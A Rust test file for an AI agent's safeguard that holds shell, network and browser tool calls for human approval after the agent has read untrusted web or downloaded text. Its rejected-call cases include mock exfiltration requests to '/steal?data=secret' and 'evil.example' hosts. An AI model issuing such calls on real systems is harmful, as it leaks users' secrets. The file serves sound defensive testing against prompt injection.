//! Actions that require approval after untrusted text, and actions that do not.

use std::time::Duration;

use super::*;

fn shell(command: &str) -> Calls {
    vec![("shell", json!({"command": command}))]
}

fn fetch(server: &Server, path: &str) -> Calls {
    vec![("http_fetch", json!({"url": server.url(path)}))]
}

#[tokio::test]
async fn autonomous_turn_requires_approval_for_code_after_a_web_page() {
    let server = pages().await;
    let bench = Bench::with(vec![fetch(&server, "/page"), shell("touch ran")]).await;
    let ran = bench.app().data_dir().join("agents/scout/ran");
    let mut stream = bench.send().await;
    let mut events = Vec::new();
    while events.last().is_none_or(|event: &ServerEvent| event.event != "approval_request") {
        events.push(stream.next().await.expect("next event"));
    }
    let source = format!("{} (http_fetch)", server.url("/page"));
    let approval_request = &events.last().expect("an approval request").data;
    assert_eq!(
        (&approval_request["tool"], &approval_request["untrusted_sources"]),
        (&json!("shell"), &json!([source]))
    );
    assert_eq!(approval_request["request_reason"], format!("The turn contains text from {source}"));
    let approval = bench.wait_for_pending().await;
    assert_untrusted_source(&approval, &source);
    assert!(!ran.exists());
    bench.answer(&approval, "approve").await;
    events.extend(stream.collect().await);
    assert_eq!(events.last().expect("an end").event, "done");
    assert!(ran.exists(), "the approved command ran");
    let listed = bench.app().get("/api/chat/approvals?status=approved").send().await.expect_status(200).json();
    assert_untrusted_source(&listed["approvals"][0], &source);
}

#[tokio::test]
async fn workspace_and_read_tools_need_no_approval_after_a_web_page() {
    let server = pages().await;
    let own = vec![
        ("write_file", json!({"path": "a.txt", "content": "alpha"})),
        ("read_file", json!({"path": "a.txt"})),
        ("edit_file", json!({"path": "a.txt", "old_text": "alpha", "new_text": "beta"})),
        ("search_files", json!({"pattern": "beta"})),
        ("list_files", json!({})),
        ("memory_store", json!({"content": "The page is about gardens."})),
        ("memory_search", json!({"query": "gardens"})),
        ("schedule_list", json!({})),
    ];
    let mut rounds = vec![fetch(&server, "/page")];
    rounds.extend(own.into_iter().map(|call| vec![call]));
    let bench = Bench::with(rounds).await;
    let events = bench.exchange().await;
    assert_eq!(events.last().expect("an end").event, "done");
    assert!(!kinds(&events).contains(&"approval_request"), "{events:?}");
    assert_eq!(kinds(&events).iter().filter(|kind| **kind == "tool_result").count(), 9);
}

#[tokio::test]
async fn tools_with_external_effects_require_approval_after_a_web_page() {
    let (server, api) = (pages().await, pages().await);
    let acts: Calls = vec![
        ("python", json!({"code": "print(1)"})),
        ("post", json!({"text": "hello"})),
        ("lookup", json!({"q": "secret"})),
        ("script", json!({})),
        ("schedule_create", json!({"name": "n", "goal": "g", "when": "every day at 9"})),
        ("schedule_cancel", json!({"id": "job_1"})),
        ("memory_forget", json!({"id": "mem_1"})),
        ("http_fetch", json!({"url": server.url("/steal?data=secret")})),
        ("http_fetch", json!({"url": server.url("/steal/secret")})),
        ("http_fetch", json!({"url": "http://secret.evil.example/"})),
        ("browser_open", json!({"url": "http://evil.example/secret"})),
        ("browser_act", json!({"action": "type_text", "selector": "@1", "text": "secret"})),
    ];
    for call in acts {
        let bench = Bench::with(vec![fetch(&server, "/page"), vec![call.clone()]]).await;
        for tool in [
            json!({"name": "post", "kind": "http", "request": {"method": "POST", "url": api.url("/"), "body": "{{input.text}}"}}),
            json!({"name": "lookup", "kind": "http", "request": {"url": api.url("/?q={{input.q}}")}}),
            json!({"name": "script", "kind": "python", "source_code": "result = 1"}),
        ] {
            let mut tool = tool;
            tool["description"] = json!("For tests.");
            bench.app().post("/api/settings/skills/custom").json(&tool).send().await.expect_status(201);
        }
        if call.0.starts_with("browser") && !crate::browser::has_chromium() {
            continue;
        }
        let stream = bench.send().await;
        let approval = bench.wait_for_pending().await;
        assert_eq!((&approval["tool"], &approval["input"]), (&json!(call.0), &call.1));
        assert_untrusted_source(&approval, &format!("{} (http_fetch)", server.url("/page")));
        bench.answer(&approval, "reject").await;
        assert_eq!(stream.collect().await.last().expect("an end").event, "done");
    }
    assert_eq!(api.requests().len(), 0, "nothing was sent");
    assert!(server.requests().iter().all(|request| request.uri.path() == "/page"));
}

#[tokio::test]
async fn requests_that_disclose_nothing_new_need_no_approval() {
    let server = pages().await;
    let bench = Bench::with(vec![
        fetch(&server, "/page"),
        // The link as written on the page, and the page again with another limit.
        fetch(&server, "/linked?from=page"),
        vec![("http_fetch", json!({"url": server.url("/page"), "max_characters": 500}))],
        vec![],
        fetch(&server, "/page"),
        fetch(&server, "/search?q=anything"),
    ])
    .await;
    let events = bench.exchange().await;
    assert!(!kinds(&events).contains(&"approval_request"), "{events:?}");
    // The user named the host.
    let events = bench.fixture.exchange(&json!({"content": format!("Search {}", server.url("/"))})).await;
    assert!(!kinds(&events).contains(&"approval_request"), "{events:?}");
    assert_eq!(server.requests().len(), 5);
}

#[tokio::test]
async fn host_named_only_in_untrusted_text_requires_approval() {
    let server = pages().await;
    let long = json!({"url": server.url("/page")});
    let bench = Bench::with(vec![
        vec![("http_fetch", long)],
        // Written by the agent to a download folder, whose files count as untrusted when they are read.
        vec![("write_file", json!({"path": "downloads/x.txt", "content": server.url("/secret")}))],
        vec![("read_file", json!({"path": "downloads/x.txt"}))],
        fetch(&server, "/secret"),
    ])
    .await;
    let stream = bench.send().await;
    let approval = bench.wait_for_pending().await;
    assert_eq!(approval["input"]["url"], server.url("/secret"));
    bench.answer(&approval, "reject").await;
    stream.collect().await;
}

#[tokio::test]
async fn calls_made_before_the_text_was_read_need_no_approval() {
    let server = pages().await;
    let both = [fetch(&server, "/page"), shell("true")].concat();
    let bench = Bench::with(vec![both]).await;
    let events = bench.exchange().await;
    assert_eq!(events.last().expect("an end").event, "done");
}

#[tokio::test]
async fn setting_allow_disables_approvals_after_untrusted_text() {
    let server = pages().await;
    let bench = Bench::with(vec![fetch(&server, "/page"), shell("touch ran")]).await;
    let security = "/api/settings/security";
    let before = bench.app().get(security).send().await.expect_status(200).json();
    assert_eq!(before["after_untrusted_text"], "ask");
    bench.app().put(security).json(&json!({"after_untrusted_text": "never"})).send().await.expect_status(400);
    let set = bench.app().put(security).json(&json!({"after_untrusted_text": "allow"})).send().await;
    assert_eq!(set.expect_status(200).json()["after_untrusted_text"], "allow");
    let events = bench.exchange().await;
    assert_eq!(events.last().expect("an end").event, "done");
    assert!(bench.app().data_dir().join("agents/scout/ran").exists());
    unmarked(&bench.result(1));
}

#[tokio::test]
async fn required_approvals_name_the_untrusted_source() {
    let server = pages().await;
    let bench = Bench::with(vec![fetch(&server, "/page"), shell("true")]).await;
    let id = bench.conversation(json!({"execution_mode": "approval_required"})).await;
    let stream = bench.fixture.send(&json!({"content": "go", "conversation_id": id})).stream().await;
    let first = bench.wait_for_pending().await;
    assert_eq!((&first["untrusted_sources"], &first["request_reason"]), (&json!([]), &Value::Null));
    bench.answer(&first, "approve").await;
    let mut eventually = Eventually::new();
    let second = loop {
        match bench.pending().await.first() {
            Some(approval) if approval["id"] != first["id"] => break approval.clone(),
            other => eventually.retry_with(&other).await,
        }
    };
    assert_untrusted_source(&second, &format!("{} (http_fetch)", server.url("/page")));
    bench.answer(&second, "approve").await;
    assert_eq!(stream.collect().await.last().expect("an end").event, "done");
}

#[tokio::test]
async fn autonomous_job_waits_for_approval_after_a_web_page() {
    use crate::scheduler::{BackgroundWorkers, create, every, id, trigger, wait_for_run, with};
    let server = pages().await;
    let bench = Bench::with(vec![fetch(&server, "/page"), shell("true")]).await;
    let job = with(every(3_600), &json!({"execution_mode": "autonomous", "goal": "Read the page."}));
    let job = id(&create(bench.app(), &job).await);
    let _workers = BackgroundWorkers::start(bench.app());
    let run = trigger(bench.app(), &job).await;
    let approval = bench.wait_for_pending().await;
    assert_untrusted_source(&approval, &format!("{} (http_fetch)", server.url("/page")));
    bench.app().clock.advance(Duration::from_secs(1));
    bench.answer(&approval, "approve").await;
    wait_for_run(bench.app(), &job, &run, |run| run["status"] == "success").await;
}
